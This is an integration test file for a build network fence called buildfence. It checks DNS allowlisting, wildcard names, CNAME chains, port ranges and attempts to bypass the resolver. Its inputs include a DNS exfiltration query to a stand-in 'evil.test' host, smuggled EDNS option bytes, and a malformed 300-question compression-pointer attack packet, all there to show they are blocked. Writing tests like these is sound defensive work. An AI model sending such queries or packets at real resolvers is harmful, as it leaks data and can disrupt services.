// Names in the allowlist, through buildfence's resolver. The upstream is a DNS server on loopback
// (test/integration/upstream.ts) whose query log shows what left the resolver.
import { beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import * as dnsPacket from 'dns-packet';
import { AGENT_IMAGE, PROBE_IMAGE, cli, dockerText, fixture, requireAgentImage, resourcesOf, verdicts } from './harness.js';
import type { EvidenceRecord } from '../../src/report/record.js';
import { header, opt, typeClass, wire } from '../unit/dns-wire.js';

// The probe speaks neither TLS nor HTTP, so the names it connects to are opaque:// entries, which
// open their addresses as before; wire.test.ts tests the name check with real clients.
const fx = fixture({ servers: 2, upstream: true });

beforeEach(async () => {
  await fx.ready;
  fx.upstream.zone.clear();
  fx.upstream.log.length = 0;
});

/** `buildfence run` on the fixture's network and upstream, in `image` run by `shell`. */
const runArgs = (image: string, shell: string, grade: string) => [
  'run',
  '--network',
  fx.net.name,
  '--pull',
  'never',
  '--image',
  image,
  '--shell',
  shell,
  '--grade',
  grade,
  '--dns-upstream',
  fx.upstream.address,
];

const run = (grade: string, allow: string[], script: string[], extra: string[] = []) =>
  cli(
    [
      ...runArgs(PROBE_IMAGE, 'sh', grade),
      ...extra,
      ...allow.flatMap((a) => ['--allow', a]),
      // $ns: the resolver the build was given; lookup NAME [TYPE]: the first address of the answer.
      '--',
      [
        "ns=$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf)",
        'lookup() { probe dns "$ns" "$1" "${2:-A}" | sed -n \'s/^rcode=0 answers=\\([^,]*\\).*/\\1/p\'; }',
        ...script,
      ].join('\n'),
    ],
    fx.ws,
  );

/** `rcode=N answers=...` lines of `probe dns`, keyed by what the script echoed before each. */
function dnsResults(stdout: string): Map<string, string> {
  const map = new Map<string, string>();
  let label = '';
  for (const line of stdout.split('\n')) {
    const m = /^== (.+)$/.exec(line);
    if (m) label = m[1];
    else if (/^rcode=/.test(line) || /^dns /.test(line)) map.set(label, line.trim());
  }
  return map;
}

describe('names in the allowlist', () => {
  it('an allowed name resolves and connects on its port; an unlisted name is NXDOMAIN and never leaves the machine', async () => {
    const [s0] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
    fx.upstream.zone.set('other.test', { A: [s0.ipv4] });
    const exfil = `${'a1b2c3d4e5'.repeat(5)}.secret.evil.test`;
    const r = await run(
      'release',
      ['opaque://api.test:8080'],
      [
        'echo "== api"; probe dns "$ns" api.test',
        'a=$(lookup api.test); probe tcp "$a" 8080; probe tcp "$a" 9090',
        'echo "== other"; probe dns "$ns" other.test',
        `echo "== exfil"; probe dns "$ns" ${exfil}`,
      ],
    );
    const dns = dnsResults(r.stdout);
    assert.equal(dns.get('api'), `rcode=0 answers=${s0.ipv4}`, r.stdout + r.stderr);
    assert.equal(dns.get('other'), 'rcode=3 answers=');
    assert.equal(dns.get('exfil'), 'rcode=3 answers=');
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s0.ipv4}:8080`), 'ok');
    assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'refused');
    assert.ok(fx.upstream.asked('api.test'));
    assert.ok(!fx.upstream.asked('other.test'), 'an unlisted name reached the upstream');
    assert.ok(!fx.upstream.log.some((q) => q.name.includes('evil.test')), 'the exfiltration name reached the upstream');
  });

  it('*.name matches subdomains at any depth, never the apex', async () => {
    const [s0] = fx.net.servers;
    for (const n of ['wild.test', 'a.wild.test', 'b.a.wild.test']) fx.upstream.zone.set(n, { A: [s0.ipv4] });
    const r = await run(
      'release',
      ['*.wild.test'],
      [
        'echo "== apex"; probe dns "$ns" wild.test',
        'echo "== sub"; probe dns "$ns" a.wild.test',
        'echo "== subsub"; probe dns "$ns" b.a.wild.test',
      ],
    );
    const dns = dnsResults(r.stdout);
    assert.equal(dns.get('apex'), 'rcode=3 answers=');
    assert.equal(dns.get('sub'), `rcode=0 answers=${s0.ipv4}`);
    assert.equal(dns.get('subsub'), `rcode=0 answers=${s0.ipv4}`);
    assert.ok(!fx.upstream.asked('wild.test'));
  });

  it('a CNAME chain of three counts for the name asked; round-robin names open every address', async () => {
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('start.test', { CNAME: 'middle.cdn.test' });
    fx.upstream.zone.set('middle.cdn.test', { CNAME: 'edge.cdn.test' });
    fx.upstream.zone.set('edge.cdn.test', { A: [s1.ipv4] });
    fx.upstream.zone.set('rr.test', { A: [s0.ipv4, s1.ipv4] });
    const r = await run(
      'release',
      ['opaque://start.test:8080', 'opaque://rr.test:9090'],
      [
        'probe tcp $(lookup start.test) 8080',
        'lookup rr.test >/dev/null',
        `probe tcp ${s0.ipv4} 9090`,
        `probe tcp ${s1.ipv4} 9090`,
        `probe tcp ${s0.ipv4} 8080`,
      ],
    );
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s1.ipv4}:8080`), 'ok', r.stdout + r.stderr);
    assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'ok');
    assert.equal(v.get(`tcp ${s1.ipv4}:9090`), 'ok');
    assert.equal(v.get(`tcp ${s0.ipv4}:8080`), 'refused');
  });

  it("an allowed name's address is refused until the name is asked, and AAAA answers are fenced like A", async () => {
    const [s0] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4], AAAA: [s0.ipv6] });
    const r = await run(
      'release',
      ['opaque://api.test:8080'],
      [
        `probe tcp ${s0.ipv4} 8080`,
        `probe tcp ${s0.ipv6} 8080`,
        'lookup api.test AAAA >/dev/null',
        `probe tcp ${s0.ipv6} 8080`,
        `probe tcp ${s0.ipv6} 9090`,
      ],
    );
    const lines = r.stdout
      .split('\n')
      .filter((l) => /^tcp /.test(l))
      .map((l) => l.split(' ').slice(1, 3).join(' '));
    assert.deepEqual(
      lines,
      [`${s0.ipv4}:8080 refused`, `[${s0.ipv6}]:8080 refused`, `[${s0.ipv6}]:8080 ok`, `[${s0.ipv6}]:9090 refused`],
      r.stdout + r.stderr,
    );
  });

  it('every DNS path ends at buildfence or is refused: TCP, another address, 127.0.0.11, IPv6, rewritten resolv.conf, DoT', async () => {
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
    fx.upstream.zone.set('leak.test', { A: [s0.ipv4] });
    const r = await run(
      'dev',
      [],
      [
        'echo "== tcp"; probe dns "$ns" api.test A tcp',
        `echo "== other-address"; probe dns ${s1.ipv4} api.test`,
        `echo "== other-address-tcp"; probe dns ${s1.ipv4} api.test A tcp`,
        'echo "== embedded"; probe dns 127.0.0.11 leak.test',
        'echo "== embedded-tcp"; probe dns 127.0.0.11 leak.test A tcp',
        `echo "== ipv6"; probe dns ${s1.ipv6} leak.test`,
        `echo "nameserver ${s1.ipv4}" > /etc/resolv.conf`,
        `echo "== rewritten"; probe dns $(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf) api.test`,
        `probe tcp ${s1.ipv4} 853`,
        `probe tcp ${s1.ipv4} 8080`,
      ],
    );
    const dns = dnsResults(r.stdout);
    // Answered by buildfence (the upstream's answer), wherever the build sent it.
    for (const label of ['tcp', 'other-address', 'other-address-tcp', 'rewritten']) {
      assert.equal(dns.get(label), `rcode=0 answers=${s0.ipv4}`, `${label}: ${r.stdout}`);
    }
    // Refused: the embedded resolver and DNS over IPv6 are unreachable even in audit mode.
    for (const label of ['embedded', 'embedded-tcp', 'ipv6']) {
      assert.doesNotMatch(dns.get(label) ?? '', /^rcode=/, `${label} got an answer: ${r.stdout}`);
    }
    assert.ok(!fx.upstream.asked('leak.test'), 'a query that should have been refused reached the upstream');
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s1.ipv4}:853`), 'refused', 'DNS over TLS is refused in audit mode');
    assert.equal(v.get(`tcp ${s1.ipv4}:8080`), 'ok', 'audit mode lets other traffic through');
  });

  it('audit: every name is resolved and forwarded, whatever the allowlist', async () => {
    fx.upstream.zone.set('anything.test', { A: [fx.net.servers[0].ipv4] });
    const r = await run('dev', [], ['echo "== any"; probe dns "$ns" anything.test']);
    assert.equal(dnsResults(r.stdout).get('any'), `rcode=0 answers=${fx.net.servers[0].ipv4}`);
    assert.ok(fx.upstream.asked('anything.test'));
  });

  it('rotation: the new address works after the name is asked again, the old one closes for new connections', async () => {
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('rot.test', { A: [s0.ipv4], ttl: 1 });
    // The upstream moves the name as soon as it has answered once.
    const moved = new Promise<void>((resolve) => {
      const timer = setInterval(() => {
        if (fx.upstream.asked('rot.test')) {
          fx.upstream.zone.set('rot.test', { A: [s1.ipv4], ttl: 1 });
          clearInterval(timer);
          resolve();
        }
      }, 20);
    });
    const r = await run(
      'release',
      ['opaque://rot.test:8080'],
      [
        'echo "first=$(lookup rot.test)"',
        `probe tcp ${s0.ipv4} 8080`,
        'sleep 4',
        `probe tcp ${s0.ipv4} 8080`,
        'echo "second=$(lookup rot.test)"',
        `probe tcp ${s1.ipv4} 8080`,
        `probe tcp ${s0.ipv4} 8080`,
      ],
      ['--dns-ttl-min', '1', '--dns-ttl-max', '2'],
    );
    await moved;
    assert.match(r.stdout, new RegExp(`^first=${s0.ipv4.replaceAll('.', '\\.')}$`, 'm'), r.stdout + r.stderr);
    assert.match(r.stdout, new RegExp(`^second=${s1.ipv4.replaceAll('.', '\\.')}$`, 'm'));
    const lines = r.stdout
      .split('\n')
      .filter((l) => /^tcp /.test(l))
      .map((l) => l.split(' ').slice(1, 3).join(' '));
    assert.deepEqual(lines, [`${s0.ipv4}:8080 ok`, `${s0.ipv4}:8080 refused`, `${s1.ipv4}:8080 ok`, `${s0.ipv4}:8080 refused`]);
  });

  it('a port range opens every port in it and no other: for a name, and for an address', async () => {
    // Each range is one set of addresses, matched with the range (not one element per port).
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('ranged.test', { A: [s0.ipv4] });
    const r = await run(
      'release',
      ['opaque://ranged.test:9000-9999', `udp://${s1.ipv4}:8000-8999`],
      [
        'a=$(lookup ranged.test); probe tcp "$a" 9090; probe tcp "$a" 8080',
        `probe udp ${s1.ipv4} 8080; probe udp ${s1.ipv4} 9090; probe tcp ${s1.ipv4} 8080`,
        'true',
      ],
    );
    assert.equal(r.code, 0, r.stderr);
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'ok', r.stdout + r.stderr);
    assert.equal(v.get(`tcp ${s0.ipv4}:8080`), 'refused');
    assert.equal(v.get(`udp ${s1.ipv4}:8080`), 'ok');
    assert.equal(v.get(`udp ${s1.ipv4}:9090`), 'refused');
    assert.equal(v.get(`tcp ${s1.ipv4}:8080`), 'refused');
  });
});

// ---- messages a build writes by hand (node in the agent image): hole 2 and 3 of issue 12 ----

/** One step of the build's script: a DNS message (hex) over UDP or TCP to its resolver, or a TCP connection. */
type RawStep = [label: string, how: 'udp' | 'tcp' | 'connect', what: string];

/** The build's script (node): each step in turn, printing `@@ LABEL <reply hex | timeout | closed | ok | refused>`. */
function rawScript(steps: RawStep[]): string {
  return `
const dgram = require('node:dgram');
const net = require('node:net');
const ns = /^nameserver\\s+(\\S+)/m.exec(require('node:fs').readFileSync('/etc/resolv.conf', 'utf8'))[1];
const steps = ${JSON.stringify(steps)};
const udp = (msg) => new Promise((resolve) => {
  const s = dgram.createSocket('udp4');
  const t = setTimeout(() => { s.close(); resolve('timeout'); }, 3000);
  s.on('message', (r) => { clearTimeout(t); s.close(); resolve(r.toString('hex')); });
  s.send(msg, 53, ns);
});
const tcp = (msg) => new Promise((resolve) => {
  const s = net.connect(53, ns);
  let buf = Buffer.alloc(0);
  const t = setTimeout(() => { s.destroy(); resolve('timeout'); }, 3000);
  s.on('error', () => resolve('closed'));
  s.on('close', () => { clearTimeout(t); resolve('closed'); });
  s.on('connect', () => s.write(Buffer.concat([Buffer.from([msg.length >> 8, msg.length & 255]), msg])));
  s.on('data', (d) => {
    buf = Buffer.concat([buf, d]);
    if (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) { clearTimeout(t); resolve(buf.subarray(2, 2 + buf.readUInt16BE(0)).toString('hex')); s.destroy(); }
  });
});
const connect = (to) => new Promise((resolve) => {
  const [host, port] = to.split(' ');
  const s = net.connect(Number(port), host);
  s.setTimeout(3000, () => { s.destroy(); resolve('timeout'); });
  s.on('connect', () => { s.destroy(); resolve('ok'); });
  s.on('error', () => resolve('refused'));
});
(async () => {
  for (const [label, how, what] of steps) {
    const r = how === 'connect' ? await connect(what) : await (how === 'tcp' ? tcp : udp)(Buffer.from(what, 'hex'));
    console.log('@@ ' + label + ' ' + r);
  }
})();
`;
}

function rawReplies(stdout: string): Map<string, string> {
  const map = new Map<string, string>();
  for (const line of stdout.split('\n')) {
    const m = /^@@ (\S+) (\S+)$/.exec(line.trim());
    if (m) map.set(m[1], m[2]);
  }
  return map;
}

/** A dotted name's wire form. */
const dotted = (name: string) => wire(...name.split('.'));
const ask = (id: number, name: string, qtype = 1, { flags = 0x0100, qclass = 1, extra = [] as Buffer[], ar = 0 } = {}) =>
  Buffer.concat([header(id, flags, [1, 0, 0, ar]), dotted(name), typeClass(qtype, qclass), ...extra]).toString('hex');
/** An OPT record with payload 4096 and DO, carrying client-subnet (8), a cookie (10) and a private option. */
const richOpt = () =>
  opt(4096, {
    dnssecOk: true,
    options: [
      [8, Buffer.from([0, 1, 24, 0, 192, 0, 2])],
      [10, Buffer.from('c00k1e!!')],
      [65001, Buffer.from('exfil-bits')],
    ],
  });

describe('the messages a build writes itself (issue 12)', () => {
  const build = async (allow: string[], steps: RawStep[], report?: string) => {
    await requireAgentImage();
    return cli(
      [
        ...runArgs(AGENT_IMAGE, 'node', 'release'),
        ...(report ? ['--report', report] : []),
        ...allow.flatMap((a) => ['--allow', a]),
        '--',
        rawScript(steps),
      ],
      fx.ws,
    );
  };

  it('one TCP message of 300 questions, each a pointer to one long name, gets a FORMERR header; the run goes on and reports', async () => {
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
    const long = 'a'.repeat(60) + '.' + 'b'.repeat(60) + '.' + 'c'.repeat(60) + '.' + 'd'.repeat(60);
    const attack = Buffer.concat([
      header(0x3300, 0x0100, [300, 0, 0, 0]),
      dotted(long),
      typeClass(1),
      ...Array.from({ length: 299 }, () => Buffer.from([0xc0, 12, 0, 1, 0, 1])),
    ]);
    const report = path.join(fx.ws, 'attack-300.json');
    const r = await build(
      ['api.test:8080'],
      [
        ['denied', 'connect', `${s1.ipv4} 9090`],
        ['attack', 'tcp', attack.toString('hex')],
        ['attack-udp', 'udp', attack.toString('hex')],
        ['after', 'udp', ask(0x4401, 'api.test')],
        ['after-tcp', 'tcp', ask(0x4402, 'api.test')],
      ],
      report,
    );
    try {
      const replies = rawReplies(r.stdout);
      assert.equal(replies.get('denied'), 'refused', r.stdout + r.stderr);
      // A bare header: id, QR, RD, RA, FORMERR, no question; not 300 names re-encoded.
      assert.equal(replies.get('attack'), header(0x3300, 0x8181, [0, 0, 0, 0]).toString('hex'));
      assert.equal(replies.get('attack-udp'), header(0x3300, 0x8181, [0, 0, 0, 0]).toString('hex'));
      for (const label of ['after', 'after-tcp']) {
        const reply = dnsPacket.decode(Buffer.from(replies.get(label) ?? '', 'hex'));
        assert.deepEqual(
          reply.answers?.map((a) => (a as { data?: unknown }).data),
          [s0.ipv4],
          label,
        );
      }
      assert.equal(r.code, 0, r.stderr);
      const record = JSON.parse(await fs.readFile(report, 'utf8')) as EvidenceRecord;
      assert.ok(
        record.denied.some((d) => d.address === s1.ipv4 && d.port === 9090),
        JSON.stringify(record.denied),
      );
      assert.deepEqual(
        record.dns.filter((d) => d.reason).map((d) => [d.name, d.reason, d.count]),
        [['', 'malformed', 2]],
      );
      assert.equal(record.failure, undefined);
      assert.deepEqual(await resourcesOf(r.pid), []);
    } finally {
      // Today's main dies on the attack and leaves its containers: not for the next test to find.
      for (const name of await resourcesOf(r.pid)) await dockerText(['rm', '--force', name]).catch(() => undefined);
    }
  });

  it('forwards only rebuilt queries: odd types, classes, options, additional records and trailing bytes never reach the upstream', async () => {
    const [s0] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
    const report = path.join(fx.ws, 'rebuilt.json');
    const steps: RawStep[] = [
      ['mixed', 'udp', ask(0x1101, 'ApI.tEsT')],
      ['edns', 'udp', ask(0x1102, 'api.test', 1, { flags: 0x0130, extra: [richOpt()], ar: 1 })],
      ['null', 'udp', ask(0x1103, 'api.test', 10)],
      ['private', 'udp', ask(0x1104, 'api.test', 65280)],
      ['any', 'udp', ask(0x1105, 'api.test', 255)],
      ['axfr', 'tcp', ask(0x1106, 'api.test', 252)],
      ['chaos', 'udp', ask(0x1107, 'api.test', 16, { qclass: 3 })],
      [
        'additional',
        'udp',
        ask(0x1108, 'api.test', 1, { extra: [dotted('x.test'), typeClass(1), Buffer.from([0, 0, 0, 60, 0, 4, 1, 2, 3, 4])], ar: 1 }),
      ],
      ['trailing', 'udp', ask(0x1109, 'api.test', 1, { extra: [Buffer.from('trailing bytes')] })],
      [
        'two',
        'udp',
        Buffer.concat([
          header(0x110a, 0x0100, [2, 0, 0, 0]),
          dotted('api.test'),
          typeClass(1),
          dotted('exfil.api.test'),
          typeClass(1),
        ]).toString('hex'),
      ],
      ['nodata-1', 'udp', ask(0x110b, 'api.test', 28)],
      ['nodata-2', 'udp', ask(0x110c, 'API.test', 28)],
      ['nx-1', 'udp', ask(0x110d, 'gone.wild.test')],
      ['nx-2', 'udp', ask(0x110e, 'gone.wild.test')],
      ['tcp', 'tcp', ask(0x110f, 'API.Test', 16)],
    ];
    const r = await build(['api.test:8080', '*.wild.test'], steps, report);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    const replies = rawReplies(r.stdout);
    const reply = (label: string) => Buffer.from(replies.get(label) ?? '', 'hex');
    const rcodes = Object.fromEntries(
      steps.map(([label]) => [label, reply(label).length >= 4 ? reply(label)[3] & 0x0f : replies.get(label)]),
    );
    assert.deepEqual(rcodes, {
      mixed: 0,
      edns: 0,
      null: 5,
      private: 5,
      any: 5,
      axfr: 5,
      chaos: 5,
      additional: 1,
      trailing: 1,
      two: 1,
      'nodata-1': 0,
      'nodata-2': 0,
      'nx-1': 3,
      'nx-2': 3,
      tcp: 0,
    });
    // Each reply carries the build's own id and the case it asked in, though upstream saw neither.
    const mixed = dnsPacket.decode(reply('mixed'));
    assert.equal(mixed.id, 0x1101);
    assert.equal(mixed.questions![0].name, 'ApI.tEsT');
    assert.deepEqual(
      mixed.answers?.map((a) => (a as { data?: unknown }).data),
      [s0.ipv4],
    );
    assert.equal(dnsPacket.decode(reply('tcp')).questions![0].name, 'API.Test');
    assert.equal(dnsPacket.decode(reply('nodata-2')).questions![0].name, 'API.test');

    // What arrived upstream: rebuilt queries only.
    const arrived = fx.upstream.log;
    for (const q of arrived) {
      const d = dnsPacket.decode(q.bytes);
      const name = q.bytes.subarray(12, 12 + dotted(q.name).length).toString('latin1');
      assert.equal(name, dotted(q.name).toString('latin1'), `lower case on the wire: ${q.bytes.toString('hex')}`);
      assert.equal(q.bytes.readUInt16BE(2), 0x0100, 'flags: RD only');
      assert.deepEqual([d.questions?.length, d.answers?.length, d.authorities?.length, d.additionals?.length], [1, 0, 0, 1]);
      const o = d.additionals![0] as dnsPacket.OptAnswer;
      assert.deepEqual([o.type, o.udpPayloadSize, o.options], ['OPT', 1232, []]);
      assert.equal(q.bytes.length, 12 + dotted(q.name).length + 4 + 11, 'nothing after the OPT');
      assert.equal(d.questions![0].class, 'IN');
    }
    const seen = arrived.map((q) => `${q.name} ${q.type}${(q.bytes.at(-4)! & 0x80) !== 0 ? ' DO' : ''}`).sort();
    assert.deepEqual(seen, ['api.test A', 'api.test A DO', 'api.test AAAA', 'api.test TXT', 'gone.wild.test A']);
    assert.ok(
      arrived.some((q) => q.bytes.readUInt16BE(0) < 0x1101 || q.bytes.readUInt16BE(0) > 0x110f),
      "the upstream saw the build's ids",
    );
    const record = JSON.parse(await fs.readFile(report, 'utf8')) as EvidenceRecord;
    assert.deepEqual(
      record.dns
        .filter((d) => d.reason)
        .map((d) => `${d.name} ${d.type} ${d.reason}`)
        .sort(),
      [
        '  malformed',
        'api.test A malformed',
        'api.test TXT class',
        'api.test TYPE10 type',
        'api.test TYPE252 type',
        'api.test TYPE255 type',
        'api.test TYPE65280 type',
      ],
    );
  });
});
